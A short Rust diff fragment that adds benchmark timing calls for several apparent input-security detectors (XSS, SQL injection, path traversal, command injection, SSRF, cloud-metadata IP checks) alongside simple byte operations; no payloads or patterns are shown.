+        t("sum", &mut || std::hint::black_box(&v).iter().map(|&b| b as u32).sum::<u32>() > 0);
+        t("lower-eq", &mut || std::hint::black_box(&v).iter().filter(|b| b.to_ascii_lowercase() == b'q').count() > 0);
+        t("decode", &mut || decode(std::hint::black_box(&v), false).len() > 0);
+        t("xss", &mut || xss(std::hint::black_box(&v)));
+        t("sql", &mut || sql_injection(std::hint::black_box(&v), &mut toks));
+        t("trav", &mut || path_traversal(std::hint::black_box(&v), true));
+        t("cmd", &mut || command_injection(std::hint::black_box(&v)));
+        t("ssrf", &mut || ssrf(std::hint::black_box(&v)));
+        t("v4", &mut || metadata_ipv4(std::hint::black_box(&v)));
+        t("v6", &mut || metadata_ipv6(std::hint::black_box(&v)));
+        t("inspect", &mut || inspect(&Inspected { path: std::str::from_utf8(std::hint::black_box(&v)).unwrap(), ..Inspected::default() }).is_empty());
     }
 }
